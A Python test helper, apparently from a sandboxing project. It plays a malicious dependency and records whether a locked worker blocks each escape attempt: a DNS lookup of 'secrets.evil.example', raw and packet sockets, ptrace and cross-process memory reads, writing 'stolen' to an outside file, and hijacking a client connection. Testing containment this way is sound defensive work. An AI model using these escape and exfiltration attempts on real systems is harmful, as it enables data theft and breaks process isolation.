"""A dependency gone bad: imported into a process of the house, it tries to carry something out, every way it knows.

`everything` makes each attempt and says how it ended: the name of an errno, or "done". It needs nothing but the
standard library, so that it can be imported into a locked worker too."""

from __future__ import annotations

import ctypes
import errno
import os
import platform
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path

_LIBC = ctypes.CDLL(None, use_errno=True)
_ARM = platform.machine() == "aarch64"
# Numbers from the kernel's tables: (x86-64, aarch64).
_NUMBERS = {
    **{"ptrace": (101, 117), "process_vm_readv": (310, 270), "connect": (42, 203), "sendto": (44, 206)},
    **{"io_uring_setup": (425, 425), "pidfd_getfd": (438, 438)},
}
_FAST_OPEN = 0x20000000
_SOMEWHERE = struct.pack("=H2s4s8x", socket.AF_INET, (443).to_bytes(2), bytes((192, 0, 2, 7)))
_PTRACE_ATTACH = 16


def attempts(target: Mapping[str, str]) -> dict[str, Callable[[], object]]:
    """`neighbor` is another program's Unix socket, `abstract` an abstract one, `outside` a file that is not the house's
    or the worker's, `process` one to look into, `accepted` the descriptor of a connection that a client opened."""
    found: dict[str, Callable[[], object]] = {
        "tcp": lambda: _socket(socket.AF_INET, socket.SOCK_STREAM),
        "tcp over IPv6": lambda: _socket(socket.AF_INET6, socket.SOCK_STREAM),
        "udp": lambda: _socket(socket.AF_INET, socket.SOCK_DGRAM),
        "dns": lambda: socket.getaddrinfo("secrets.evil.example", 443),
        "raw": lambda: _socket(socket.AF_INET, socket.SOCK_RAW),
        "packet": lambda: _socket(socket.AF_PACKET, socket.SOCK_RAW),
        "netlink": lambda: _socket(socket.AF_NETLINK, socket.SOCK_RAW),
        "another program's socket": lambda: _connect(target["neighbor"]),
        "an abstract socket": lambda: _connect(target["abstract"]),
        "a file outside": lambda: Path(target["outside"]).write_text("stolen"),
        "a new file outside": Path(target["outside"]).with_name("new").touch,
        "ptrace": lambda: _call("ptrace", _PTRACE_ATTACH, int(target["process"]), 0, 0),
        "memory of another process": lambda: _call("process_vm_readv", int(target["process"]), 0, 0, 0, 0, 0),
        "a descriptor of another process": lambda: _call("pidfd_getfd", 0, 0, 0),
        "io_uring": lambda: _call("io_uring_setup", 8, 0),
    }
    if "accepted" in target:
        client = int(target["accepted"])
        found["a client's connection, turned around"] = lambda: _call("connect", client, _SOMEWHERE, len(_SOMEWHERE))
        found["the same by sending"] = lambda: _call("sendto", client, b"x", 1, _FAST_OPEN, _SOMEWHERE, len(_SOMEWHERE))
        found["a program of its own"] = lambda: _program("import socket; socket.socket()")
    return found


def everything(target: Mapping[str, str]) -> dict[str, str]:
    return {name: _outcome(attempt) for name, attempt in attempts(target).items()}


def _outcome(attempt: Callable[[], object]) -> str:
    try:
        attempt()
    except socket.gaierror as error:
        return f"no name: {error.strerror}"
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    return "done"


def _socket(family: int, kind: int) -> None:
    socket.socket(family, kind).close()


def _connect(address: str) -> None:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(address)


def _call(name: str, *arguments: int | bytes) -> None:
    passed = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    if _LIBC.syscall(ctypes.c_long(_NUMBERS[name][_ARM]), *passed) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _program(code: str) -> None:
    done = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        number = errno.EPERM if "PermissionError: [Errno 1]" in done.stderr else errno.EIO
        raise OSError(number, done.stderr)
